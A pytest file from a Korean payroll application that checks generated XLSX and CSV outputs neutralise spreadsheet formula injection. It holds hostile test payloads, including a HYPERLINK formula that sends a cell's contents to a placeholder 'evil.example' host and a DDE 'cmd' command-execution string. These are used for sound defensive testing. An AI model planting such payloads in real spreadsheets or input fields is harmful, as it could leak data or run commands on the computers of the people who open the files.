"""No live formula in a file we write: a hostile name stays text in every XLSX and CSV; numbers stay numbers."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from pathlib import Path

import polars as pl
import pytest
from openpyxl import Workbook, load_workbook

from payroll.security.cells import append_row, csv_cell, formula_like, set_cell

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"급여 확인")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "#N/A"]


def _formula_cells(data: bytes) -> list[str]:
    """Every <f> element of every worksheet (a live formula)."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [m.group(0) for n in z.namelist() if n.startswith("xl/worksheets/") for m in re.finditer(rb"<f[ >].*?</f>", z.read(n))]


def _texts(data: bytes) -> dict[str, tuple[str, bool]]:
    """{text: (openpyxl data type, quotePrefix)} of every string cell."""
    wb = load_workbook(io.BytesIO(data))
    return {c.value: (c.data_type, bool(c.quotePrefix)) for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


def test_formula_like_texts():
    for text in HOSTILE[:-1]:
        assert formula_like(text), text
    for text in ("김민준", "-12,000", "+3.5", "-", "", "1=1", "a@b"):
        assert not formula_like(text), text
    assert csv_cell("=1+1") == "'=1+1" and csv_cell(-5) == -5 and csv_cell("-12,000") == "-12,000"


def test_run_outputs_keep_a_hostile_name_as_text(tmp_path):
    """Before: the register had a live =HYPERLINK formula and bank_transfer.csv a bare =… cell."""
    from payroll.runs.batch import execute_run
    from payroll.store import open_store
    from test_runs_support import MONTH, fake_build, write_inputs

    inputs = write_inputs(tmp_path / "inputs")
    roster = inputs / "roster.csv"
    text = roster.read_text(encoding="utf-8")
    text = text.replace("김민준", '"=HYPERLINK(""http://evil.example"",""급여 확인"")"').replace("총무과", "@SUM(1+1)").replace("신한은행", "+은행")
    roster.write_text(text, encoding="utf-8")
    summary = execute_run(open_store(str(tmp_path / "s.db")), MONTH, inputs_dir=inputs, out_root=tmp_path / "out", build=fake_build, jobs=1)
    out = Path(summary["out_dir"])
    register = (out / "register.xlsx").read_bytes()
    assert _formula_cells(register) == []
    texts = _texts(register)
    assert texts['=HYPERLINK("http://evil.example","급여 확인")'] == ("s", True)
    assert texts["@SUM(1+1)"] == ("s", True)
    bank = (out / "bank_transfer.csv").read_text(encoding="utf-8-sig")
    assert '"\'=HYPERLINK(""http://evil.example"",""급여 확인"")"' in bank and ",'+은행," in bank
    assert not re.search(r"(^|,)\"?[=+@]", bank, re.M)  # no cell starts a formula


def test_sheet_cells_write_text_and_keep_numbers():
    from payroll.attendance.xlsx import xlsx_bytes

    frame = pl.DataFrame({"이름": HOSTILE + ["-12,000"], "금액": list(range(-3, len(HOSTILE) - 2))})
    data = xlsx_bytes({"예외": frame})
    assert _formula_cells(data) == []
    texts = _texts(data)
    for h in HOSTILE[:-1]:
        assert texts[h.replace("\r", "\n")] == ("s", True), h  # XML reads a stored CR back as LF
    assert texts["#N/A"][0] == "s" and texts["-12,000"] == ("s", False)
    ws = load_workbook(io.BytesIO(data)).worksheets[0]
    assert [c.value for c in ws["B"][1:4]] == [-3, -2, -1] and all(c.data_type == "n" for c in ws["B"][1:4])


def test_openpyxl_writers_through_set_cell_and_append_row():
    wb = Workbook()
    ws = wb.active
    append_row(ws, ["이름", "금액"])
    append_row(ws, [HOSTILE[0], -5])
    set_cell(ws, 3, 1, HOSTILE[3])
    set_cell(ws, 3, 2, "bell\x07name")
    from payroll.documents.xlsx import stamp_for, workbook_bytes

    data = workbook_bytes(wb, stamp_for(dt.date(2026, 6, 10)))
    assert _formula_cells(data) == []
    assert _texts(data)[HOSTILE[0]] == ("s", True) and _texts(data)["bell\ufffdname"] == ("s", False)
    assert load_workbook(io.BytesIO(data)).active["B2"].value == -5


def test_document_data_and_filings_workbooks_keep_text():
    from payroll.documents.data_xlsx import data_workbook

    data = data_workbook({"worker": {"name": HOSTILE[0]}, "items": [{"label": HOSTILE[2], "amount": -3}]}, dt.date(2026, 6, 10))
    assert _formula_cells(data) == []
    assert _texts(data)[HOSTILE[0]] == ("s", True) and _texts(data)[HOSTILE[2]] == ("s", True)


def test_registers_keep_a_hostile_free_text_as_text(tmp_path):
    """The 중도포기서 register's reason and the 경력증명서 register's purpose are typed by a clerk."""
    from payroll.documents import career, resignation

    resignation.record(tmp_path, resignation.Resignation("W001", "C001", dt.date(2026, 6, 10), "=1+1", dt.date(2026, 6, 1)))
    career.record_issue(tmp_path, "2026-0001", "W001", dt.date(2026, 6, 1), "@SUM(A1)")
    assert "W001,C001,2026-06-10,'=1+1,2026-06-01" in (tmp_path / resignation.REGISTER).read_text(encoding="utf-8")
    assert "2026-0001,W001,2026-06-01,'@SUM(A1)" in (tmp_path / career.REGISTER).read_text(encoding="utf-8")
